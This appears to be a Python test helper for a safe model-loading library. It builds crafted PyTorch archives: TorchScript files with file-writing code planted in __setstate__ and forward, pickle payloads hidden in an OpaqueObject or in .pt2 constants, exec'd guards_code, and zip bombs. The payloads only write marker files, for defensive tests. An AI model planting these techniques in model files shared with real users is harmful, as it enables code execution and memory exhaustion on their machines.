"""Builders for crafted model files: good archives with one part replaced, as an attacker would.

Every payload writes a marker file, so a test can show it running on plain torch and not
through sensaudit. Models read 3 features, like ``helpers_bad.Scorer``.
"""

from __future__ import annotations

import base64
import gc
import json
import pickle
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import torch
from helpers_bad import Payload, Scorer
from torch import nn

from sensaudit import ModelLoadError, load_model
from sensaudit.settings.sections import ModelConfig

Edit = Callable[[str, bytes], bytes]


def refusal_cost(path: Path) -> tuple[str, float, int]:
    """load_model's refusal of ``path``: (its message, seconds taken, peak bytes of Python
    allocations), measured after a collection so earlier tests' garbage is not counted."""
    gc.collect()
    tracemalloc.start()
    started = time.perf_counter()
    try:
        load_model(ModelConfig(path=path, device="cpu"))
    except ModelLoadError as exc:
        message = str(exc)
    else:
        raise AssertionError(f"{path} was loaded, not refused")
    finally:
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return message, elapsed, peak


def rebuild(source: Path, target: Path, edit: Edit | None = None,
            rename: Callable[[str], str] | None = None,
            extra: dict[str, bytes] | None = None) -> Path:
    """Copy a zip archive member by member: ``edit(name, data)``, ``rename(name)``, plus
    ``extra`` members (named below the archive's root folder)."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w") as out:
        root = src.namelist()[0].split("/")[0]
        for info in src.infolist():
            data = src.read(info.filename)
            if edit is not None:
                data = edit(info.filename, data)
            if rename is not None:
                info.filename = rename(info.filename)
            out.writestr(info, data)
        for name, data in (extra or {}).items():
            out.writestr(f"{root}/{name}", data)
    return target


def edit_text(suffix: str, old: str, new: str) -> Edit:
    """An edit replacing ``old`` by ``new`` (once, and it must be there) in the member whose
    name ends with ``suffix``."""
    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith(suffix):
            return data
        text = data.decode()
        assert old in text, (old, text)
        return text.replace(old, new, 1).encode()
    return edit


def edit_pickle_global(suffix: str, old: bytes, new: bytes) -> Edit:
    """An edit renaming a GLOBAL ("module\\nname") in the pickle whose name ends with
    ``suffix``: pickles name globals as newline-terminated text, so lengths may differ."""
    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith(suffix):
            return data
        assert b"c" + old + b"\n" in data
        return data.replace(b"c" + old + b"\n", b"c" + new + b"\n", 1)
    return edit


# --- TorchScript --------------------------------------------------------------------------


@torch.jit.script
class Scale:
    """A TorchScript class (not a module) with its own state methods: held as an attribute, its
    __setstate__ runs when the archive loads."""

    def __init__(self, value: float):
        self.value = value

    def __getstate__(self) -> float:
        return self.value

    def __setstate__(self, state: float) -> None:
        self.value = state


class StatefulScorer(nn.Module):
    """y = x @ w, with (benign) __getstate__/__setstate__ for a payload to be planted in."""

    def __init__(self):
        super().__init__()
        self.w = nn.Parameter(torch.tensor([1.0, 2.0, -1.0]))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x @ self.w

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, bool]:
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
        self.w = state[0]
        self.training = state[1]


class ScaledScorer(nn.Module):
    """y = (x @ w) * scale.value, the scale held in a TorchScript class object."""

    def __init__(self):
        super().__init__()
        self.w = nn.Parameter(torch.tensor([1.0, 2.0, -1.0]))
        self.scale = Scale(1.0)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return (x @ self.w) * self.scale.value


def scripted(model: nn.Module, path: Path) -> Path:
    torch.jit.save(torch.jit.script(model), str(path))
    return path


def from_file_in_setstate(folder: Path, marker: Path) -> Path:
    """__setstate__ maps ``marker`` writable with torch.from_file(shared=True) and copies
    b'pwned' into it: a file written while torch.jit.load runs."""
    base = scripted(StatefulScorer(), folder / "stateful.pt")
    # The result is used (added, times 0, to a weight) so TorchScript keeps the write.
    payload = (f'    _p = torch.tensor([112, 119, 110, 101, 100], dtype=0)\n'
               f'    _t = torch.from_file("{marker}", True, 5, dtype=0)\n'
               f'    _u = torch.copy_(_t, _p)\n'
               f'    self.w = torch.add((state)[0], torch.mul(torch.sum(_u), 0))\n')
    old = "    self.training = (state)[1]\n"
    return rebuild(base, folder / "evil_from_file.pt",
                   edit_text("code/__torch__/helpers_crafted.py", old, old + payload))


def save_in_setstate(folder: Path, marker: Path) -> Path:
    """__setstate__ calls aten::save: ``marker`` is written while torch.jit.load runs."""
    base = scripted(StatefulScorer(), folder / "stateful.pt")
    old = "    self.training = (state)[1]\n"
    return rebuild(base, folder / "evil_save_state.pt",
                   edit_text("code/__torch__/helpers_crafted.py", old,
                             old + f'    _s = torch.save((state)[0], "{marker}")\n'))


def save_in_forward(folder: Path, marker: Path) -> Path:
    """forward calls aten::save: ``marker`` is written each time the model runs."""
    base = scripted(Scorer(), folder / "plain.pt")
    return rebuild(base, folder / "evil_save_forward.pt",
                   edit_text("code/__torch__/helpers_bad.py", "    w = self.w\n",
                             f'    w = self.w\n    _s = torch.save(x, "{marker}")\n'))


def ops_save_in_helper_function(folder: Path, marker: Path) -> Path:
    """A free function in another code file (nn.functional.relu, which nn.ReLU calls) writes
    ``marker`` through ops.aten.save: not the module's own code, not spelled torch.save."""
    base = scripted(nn.Sequential(nn.Linear(3, 1), nn.ReLU()), folder / "seq.pt")
    return rebuild(base, folder / "evil_ops_save.pt",
                   edit_text("code/__torch__/torch/nn/functional.py", "  if inplace:\n",
                             f'  _s = ops.aten.save(input, "{marker}")\n  if inplace:\n'))


def save_in_helper_class_setstate(folder: Path, marker: Path) -> Path:
    """The __setstate__ of a TorchScript class held as an attribute (not of the module) writes
    ``marker`` through ops.aten.save while torch.jit.load runs."""
    base = scripted(ScaledScorer(), folder / "scaled.pt")
    old = "    self.value = state\n"
    return rebuild(base, folder / "evil_helper_state.pt",
                   edit_text("code/__torch__/helpers_crafted.py", old,
                             old + f'    _s = ops.aten.save(state, "{marker}")\n'))


def _unicode(text: str) -> bytes:
    """A pickle BINUNICODE opcode pushing ``text``."""
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def opaque_object(folder: Path, marker: Path, declare: bool = True) -> Path:
    """data.pkl gains an object of the C++ custom class aten.OpaqueObject, whose C++
    __setstate__ base64-decodes its state and unpickles it with Python's pickle: ``marker`` is
    written while torch.jit.load runs. With ``declare``, a code file defines a (harmless) class
    of the same name, so the name looks like one of the archive's own classes; torch finds the
    C++ class first either way."""
    base = scripted(Scorer(), folder / "plain.pt")
    state = base64.b64encode(pickle.dumps(Payload(marker))).decode()
    planted = (_unicode("opaque") + b"c__torch__.torch.classes.aten\nOpaqueObject\n)\x81"
               + _unicode(state) + b"b")

    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith("/data.pkl"):
            return data
        end = data.rindex(b"Nu") + 1  # the module's attribute dict, before its SETITEMS
        return data[:end] + planted + data[end:]

    declared = {"code/__torch__/torch/classes/aten.py": b"class OpaqueObject(Module):\n"
                b"  __parameters__ = []\n  __buffers__ = []\n"} if declare else {}
    return rebuild(base, folder / "evil_opaque.pt", edit, extra=declared)


# How forward calls each operator off the list, on the weight tensor, once the archive defines
# a method of that name; the result is used, so TorchScript keeps the call.
OPERATOR_METHOD_CALLS = {
    "_reshape_alias": "w._reshape_alias([3], [1])",  # a view of any size: no bounds check
    "_unsafe_index_put": "w._unsafe_index_put([torch.zeros([1], dtype=4)], w, False)",
    "empty_like": "w.empty_like()",  # uninitialised memory
    "set_data": "w.set_data(w)",
}


def operator_method(folder: Path, name: str) -> Path:
    """Scorer with a method ``name`` (returning 1) and forward calling ``w.name(...)`` on its
    weight tensor: TorchScript compiles that call to aten::name, not to the method."""
    base = scripted(Scorer(), folder / "plain.pt")
    old = "    w = self.w\n    return torch.matmul(x, w)\n"
    used = ("torch.matmul(x, w)" if name == "set_data"
            else "torch.matmul(x, torch.add(w, torch.mul(torch.sum(_0), 0)))")
    new = (f"    w = self.w\n    _0 = {OPERATOR_METHOD_CALLS[name]}\n    return {used}\n"
           f"  def {name}(self: __torch__.helpers_bad.Scorer) -> int:\n    return 1\n")
    return rebuild(base, folder / f"evil_{name}.pt", edit_text("code/__torch__/helpers_bad.py",
                                                                 old, new))


def debug_index_out_of_range(folder: Path) -> Path:
    """The scorer's debug pickle pointing the source range of its one line of code at string
    table entry 1,000,000,000 (of 4): torch reads it when forward raises, to word the error."""
    base = scripted(Scorer(), folder / "plain.pt")
    pieces = b"(K\x01K\x02K\x00e"  # MARK, 1, 2, 0, APPENDS: the line's text pieces

    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith(".debug_pkl"):
            return data
        assert data.count(pieces) == 1
        return data.replace(pieces, b"(J" + struct.pack("<i", 10**9) + b"K\x02K\x00e")
    return rebuild(base, folder / "evil_debug.pt", edit)


# --- .pt2 ---------------------------------------------------------------------------------


class WithConstant(nn.Module):
    """y = x @ w + k, k a tensor constant: torch.export saves it under data/constants/."""

    def __init__(self):
        super().__init__()
        self.w = nn.Parameter(torch.tensor([1.0, 2.0, -1.0]))
        self.k = torch.tensor([0.5])

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x @ self.w + self.k


def opaque_constant(source: Path, target: Path, marker: Path) -> Path:
    """The constant's member renamed opaque_obj_0 and holding a pickle: torch.export.load picks
    pickle.loads from that name, while the JSON still says use_pickle: false with a
    tensor_meta (of the payload's size, so torch's own size check passes)."""
    payload = pickle.dumps(Payload(marker))
    payload += b"\0" * (-len(payload) % 4)  # whole float32 elements

    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("data/constants/tensor_0"):
            return payload
        if name.endswith("model_constants_config.json"):
            index = json.loads(data)
            index["config"]["k"]["path_name"] = "opaque_obj_0"
            index["config"]["k"]["tensor_meta"]["sizes"] = [{"as_int": len(payload) // 4}]
            return json.dumps(index).encode()
        return data

    return rebuild(source, target, edit,
                   rename=lambda name: name.replace("constants/tensor_0", "constants/opaque_obj_0"))


def guards_code(source: Path, target: Path, marker: Path) -> Path:
    """guards_code holds Python: ExportedProgram.module() exec's it into the module's guard
    function, which runs on every call."""
    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("models/model.json"):
            program = json.loads(data)
            program["guards_code"] = [f"open({str(marker)!r}, 'w').write('payload ran') > 0"]
            return json.dumps(program).encode()
        return data
    return rebuild(source, target, edit)


def inflating_weight(source: Path, target: Path, size: int = 3 * 2**30) -> Path:
    """weight_0 replaced by a deflated member that inflates to ``size`` bytes of zeros (3 GB by
    default, in about 3 MB): what torch would allocate, since it trusts the zip directory."""
    return inflating_member(source, target, "data/weights/weight_0", size, bytes(2**20))


def inflating_member(source: Path, target: Path, suffix: str, size: int, chunk: bytes) -> Path:
    """The member whose name ends with ``suffix`` replaced by a deflated one inflating to
    ``size`` bytes (a whole number of ``chunk``s), in about a thousandth of that."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    # After a full flush the compressor starts afresh, so every further chunk compresses to the
    # same bytes: the stream is built by repetition, without ``size`` bytes of work.
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream = first + again * (size // len(chunk) - 1) + compressor.flush(zlib.Z_FINISH)
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w") as out:
        for info in src.infolist():
            if not info.filename.endswith(suffix):
                out.writestr(info, src.read(info.filename))
                continue
            # Written stored, then relabelled as deflated with the inflated size (CRC left 0:
            # nothing reads that far).
            info.compress_type = zipfile.ZIP_STORED
            header_at = out.fp.tell()
            out.writestr(info, stream)
            bomb = out.filelist[-1]
            bomb.compress_type, bomb.file_size, bomb.CRC = zipfile.ZIP_DEFLATED, size, 0
            end = out.fp.tell()
            out.fp.seek(header_at + 8)
            out.fp.write(struct.pack("<H", zipfile.ZIP_DEFLATED))
            out.fp.seek(header_at + 14)
            out.fp.write(struct.pack("<III", 0, len(stream), size))
            out.fp.seek(end)
    return target


def rebuild_deflated(source: Path, target: Path, replace: dict[str, bytes]) -> Path:
    """Copy a TorchScript archive with the members whose names end with a key of ``replace``
    holding its value, deflated as torch.jit.save writes code."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w") as out:
        for info in src.infolist():
            data = next((new for suffix, new in replace.items()
                         if info.filename.endswith(suffix)), None)
            if data is None:
                out.writestr(info, src.read(info.filename))
            else:
                out.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED)
    return target
